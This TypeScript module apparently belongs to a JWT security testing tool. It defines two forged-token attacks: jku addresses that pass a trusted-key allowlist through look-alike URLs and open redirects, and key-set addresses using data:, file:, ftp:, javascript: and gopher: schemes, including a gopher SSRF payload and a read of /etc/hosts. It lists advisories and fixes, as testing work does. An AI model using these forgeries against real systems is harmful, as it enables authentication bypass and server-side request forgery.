import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { attackerForgery, attackerKey, likelyAlg } from '../attacker-forgery.ts';
import { attackerKeySet, keySetAnswer } from '../attacker-key-set.ts';
import { encodeBase64 } from '../encoding.ts';

/** C05. */
export const keyAddressFilter: TokenAttack = {
  kind: 'token',
  id: 'C05',
  title: 'The list of trusted key addresses is passed by a look-alike address',
  severity: 'critical',
  cwe: 346,
  source: ['RFC 8725 §3.10', 'RFC 3986 §3.2', 'RFC 7515 §4.1.2'],
  how: 'A verifier that follows jku may hold the address against a list first, and compare texts where it should compare origins. An address that begins with the trusted one goes elsewhere by an @, one that ends with it by its path, and one that contains it by its query. An open redirect on the trusted host leads to the attacker from an address that is really on the list.',
  victims: [
    { what: 'PyJWT < 2.14.0, whose PyJWKClient follows redirects', advisory: 'GHSA-9v7f-9g4p-ffgj' },
    { what: 'Fulcio', advisory: 'CVE-2026-49478' },
  ],
  fix: 'Do not follow jku at all. Where addresses must be compared, parse them and compare the whole origin, take https alone, and follow no redirect.',
  needs: ['callback'],
  expect: 'refused',
  forge: async (context) => {
    const trusted = trustedAddress(context);
    const key = await attackerKey(context, likelyAlg(context));
    const kid = context.good.header['kid'] ?? 'default';
    const forgeries: Forgery[] = [];
    for (const [variant, write] of Object.entries(lookAlikes)) {
      const callback = context.callbackUrl?.(variant, keySetAnswer(key, kid)) ?? '';
      const header = { kid, jku: write(new URL(callback), trusted) };
      forgeries.push(await attackerForgery(context, key, variant, { header, callback }));
    }
    return forgeries;
  },
};

/** C06. */
export const keyAddressScheme: TokenAttack = {
  kind: 'token',
  id: 'C06',
  title: 'The address of the key has a scheme of its own: data, file, gopher',
  severity: 'critical',
  cwe: 918,
  source: ['RFC 8725 §3.10', 'RFC 7517 §5', 'RFC 2397 §2'],
  how: 'Programs that fetch addresses know more schemes than https. A data address holds the attacker’s key set in itself and needs no server at all; a file address reads from the disk of the verifier; gopher writes any bytes to any port. A verifier that hands the text to such a program lets the token choose among all of them.',
  victims: [
    { what: 'PyJWT 2.0.0 to 2.12.1, PyJWKClient', advisory: 'CVE-2026-48522' },
    { what: 'Microsoft.IdentityModel SignedHttpRequest, jku', advisory: 'CVE-2024-21643' },
  ],
  fix: 'Take addresses of key sets from configuration alone, and refuse every scheme but https when they are read.',
  needs: [],
  expect: 'refused',
  forge: async (context) => {
    const key = await attackerKey(context, likelyAlg(context));
    const kid = 'attacker';
    const set = attackerKeySet(key, kid);
    const type = 'application/json';
    const addresses: Readonly<Record<string, string>> = {
      'data-base64': `data:${type};base64,${encodeBase64(set)}`,
      'data-percent-encoded': `data:${type},${encodeURIComponent(set)}`,
      'data-upper-case': `DATA:${type},${encodeURIComponent(set)}`,
    };
    const forgeries: Forgery[] = [];
    for (const [variant, address] of Object.entries(addresses)) {
      const claims = { iss: `${address}#` };
      forgeries.push(await attackerForgery(context, key, `jku-${variant}`, { header: { kid, jku: address } }));
      forgeries.push(await attackerForgery(context, key, `x5u-${variant}`, { header: { kid, x5u: address } }));
      forgeries.push(await attackerForgery(context, key, `iss-${variant}`, { header: { kid }, claims }));
    }
    for (const [variant, jku] of Object.entries(otherSchemes)) {
      forgeries.push(await attackerForgery(context, key, `jku-${variant}`, { header: { kid, jku } }));
    }
    if (context.callbackUrl === undefined) return forgeries;
    const callback = context.callbackUrl('gopher');
    const { host, pathname } = new URL(callback);
    const jku = `gopher://${host}/_GET%20${encodeURIComponent(pathname)}%20HTTP/1.0%0D%0A%0D%0A`;
    return [...forgeries, await attackerForgery(context, key, 'jku-gopher', { header: { kid, jku }, callback })];
  },
};

/** These lead nowhere; what they may do is crash whoever follows them, or hang it. */
const otherSchemes: Readonly<Record<string, string>> = {
  file: 'file:///dev/null',
  'file-with-host': 'file://localhost/etc/hosts',
  ftp: 'ftp://127.0.0.1:9/keys.json',
  javascript: 'javascript:0',
  'no-scheme': '//127.0.0.1:9/keys.json',
  'no-address': 'keys',
};

type Write = (callback: URL, trusted: URL) => string;

const lookAlikes: Readonly<Record<string, Write>> = {
  'trusted-as-user': ({ host, pathname }, { origin }) => `${origin}@${host}${pathname}`,
  'trusted-as-user-and-password': ({ host, pathname }, { protocol, hostname }) =>
    `${protocol}//${hostname}:80@${host}${pathname}`,
  'trusted-host-as-user': ({ host, pathname }, trusted) => `http://${trusted.hostname}@${host}${pathname}`,
  'trusted-in-the-path': (callback, trusted) => `${callback.href}/${trusted.host}${trusted.pathname}`,
  'trusted-in-the-query': (callback, trusted) => `${callback.href}?${trusted.href}`,
  'trusted-in-the-fragment': (callback, trusted) => `${callback.href}#${trusted.href}`,
  'trusted-path-below': (callback, trusted) => `${callback.href}${trusted.pathname}`,
  'trusted-after-a-backslash': ({ host, pathname }, trusted) => `http://${host}\\@${trusted.host}${pathname}`,
  'tab-in-the-scheme': ({ href }) => href.replace('http:', 'ht\ttp:'),
  'blank-before': ({ href }) => ` ${href}`,
  'upper-case-scheme': ({ href }) => href.replace('http:', 'HTTP:'),
  'local-name-of-trusted': (callback, trusted) =>
    callback.href.replace(callback.hostname, `${trusted.hostname.replaceAll(/[^\w.-]/g, '')}.localhost`),
  'open-redirect': (callback, { origin }) => `${origin}/redirect?to=${encodeURIComponent(callback.href)}`,
  'open-redirect-by-url': (callback, { origin }) => `${origin}/redirect?url=${encodeURIComponent(callback.href)}`,
  'climb-to-a-redirect': (callback, trusted) =>
    `${trusted.href}/../../redirect?to=${encodeURIComponent(callback.href)}`,
};

/** What the verifier is likely to hold addresses against: where the keys are, or who issued the token. */
function trustedAddress({ keySetUrl, good }: ForgeContext): URL {
  const known = [keySetUrl, good.header['jku'], good.payload['iss']];
  for (const text of known) if (typeof text === 'string' && URL.canParse(text)) return new URL(text);
  return new URL('https://issuer.example/.well-known/jwks.json');
}
